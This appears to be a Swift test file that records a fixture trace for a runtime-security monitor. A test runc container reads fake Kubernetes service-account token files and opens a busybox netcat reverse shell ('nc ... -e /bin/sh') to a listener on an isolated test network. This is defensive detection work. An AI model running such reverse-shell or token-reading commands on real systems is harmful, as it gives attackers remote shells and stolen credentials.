// SPDX-License-Identifier: Apache-2.0
// Records the runc-pod-attack golden fixture with the real `runtime-watch record` binary while a
// kubepods-shaped runc container reads its service-account files, runs benign commands and opens a
// busybox reverse shell to a listener on TEST-NET-2. Not a regular test: it only runs when
// RW_RECORD_FIXTURE names the output file (scripts/record-fixture.sh sets it), and skips otherwise.

import Foundation
import RuntimeWatchCore
import XCTest

final class EndToEndFixtureRecording: XCTestCase {
    static let serviceAccountPath = "/var/run/secrets/kubernetes.io/serviceaccount"

    func testRecordRuncPodAttackTrace() throws {
        let environment = ProcessInfo.processInfo.environment
        guard let output = environment["RW_RECORD_FIXTURE"] else {
            throw XCTSkip("fixture recorder: set RW_RECORD_FIXTURE=<trace path> (scripts/record-fixture.sh does) to record")
        }
        try requireRoot("fixture recording")
        try requireTools([(path: RuncContainer.runc, package: "runc"), (path: BusyboxRootfs.busybox, package: "busybox-static"),
                          (path: TestNetwork.ip, package: "iproute2"), (path: NetnsListener.python, package: "python3")])
        let binary = environment["RW_BINARY"] ?? FileManager.default.currentDirectoryPath + "/.build/debug/runtime-watch"
        XCTAssertTrue(FileManager.default.isExecutableFile(atPath: binary), "build runtime-watch first: \(binary)")

        let kubelet = try TemporaryDirectory(prefix: "rw-kubelet")
        addTeardownBlock { kubelet.remove() }
        let network = try TestNetwork()
        addTeardownBlock { network.teardown() }

        var configuration = RuncContainer.Configuration()
        configuration.podName = "shop-web-7d4b9c-x2x9q"
        configuration.namespace = "shop"
        configuration.containerName = "web"
        configuration.image = "registry.example.com/shop/web:1.4.2"
        configuration.networkNamespacePath = network.pathB
        // The bind source is a symlink, created below once the pod UID is known, to the kubelet-style
        // volume directory, as the kubelet bind-mounts the volume itself (mount follows the link).
        let link = kubelet.at("serviceaccount-volume")
        configuration.binds = [BindMount(hostPath: link, containerPath: Self.serviceAccountPath)]
        let container = try RuncContainer(configuration)
        addTeardownBlock { container.stop() }
        let volume = try FakeKubeletVolume(kubeletRoot: kubelet.path, podUID: container.podUID,
                                           token: "eyJhbGciOiJSUzI1NiJ9.fixture.sig")
        try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: volume.volumeDir)
        try container.start()

        // The recorder starts after the container, so the init is known from the snapshot.
        let recorder = Process()
        recorder.executableURL = URL(fileURLWithPath: binary)
        recorder.arguments = ["record", "--output", output, "--duration", "60", "--kubelet-root", kubelet.path, "--log-level", "warning"]
        try recorder.run()
        addTeardownBlock {
            if recorder.isRunning { recorder.terminate(); _ = CommandRunner.waitForExit(recorder, timeout: .seconds(5)) }
        }
        XCTAssertTrue(waitUntil(timeout: .seconds(15)) {
            (try? String(contentsOfFile: output, encoding: .utf8))?.contains(container.id) == true
        }, "the recorder never wrote the container's snapshot")
        usleep(1_500_000) // let the token watcher mark its files (it starts after process capture)

        let ls = try container.exec(["ls", "/"])
        XCTAssertEqual(ls.status, 0, "\(ls)")
        let pipeline = try container.exec(["sh", "-c", "echo hello | cat"])
        XCTAssertEqual(pipeline.stdout, "hello\n")
        let namespace = try container.exec(["cat", Self.serviceAccountPath + "/namespace"])
        XCTAssertEqual(namespace.stdout, "default")
        usleep(300_000)
        let token = try container.exec(["cat", Self.serviceAccountPath + "/token"])
        XCTAssertEqual(token.stdout, "eyJhbGciOiJSUzI1NiJ9.fixture.sig")
        usleep(300_000)

        let listener = try network.startListener(sending: "id", timeout: .seconds(10))
        let shell = try container.exec(["busybox", "nc", TestNetwork.addressA, String(listener.port), "-e", "/bin/sh"], timeout: .seconds(15))
        let seen = try listener.result()
        XCTAssertNotNil(seen.peer, "the reverse shell never connected")
        XCTAssertTrue(seen.received.hasPrefix("uid=0(root)"), "listener got: \(seen.received); nc: \(shell)")
        usleep(1_000_000)

        recorder.interrupt()
        XCTAssertTrue(CommandRunner.waitForExit(recorder, timeout: .seconds(15)), "recorder did not stop on SIGINT")
        XCTAssertEqual(recorder.terminationStatus, 0)
        let meta = ["container": container.id, "podUID": container.podUID, "initPID": "\(container.initPID)", "port": "\(listener.port)"]
        try JSONSerialization.data(withJSONObject: meta, options: [.sortedKeys]).write(to: URL(fileURLWithPath: output + ".meta.json"))
        print("fixture-recording: container \(container.id) pod \(container.podUID) init \(container.initPID) listener port \(listener.port)")
    }
}
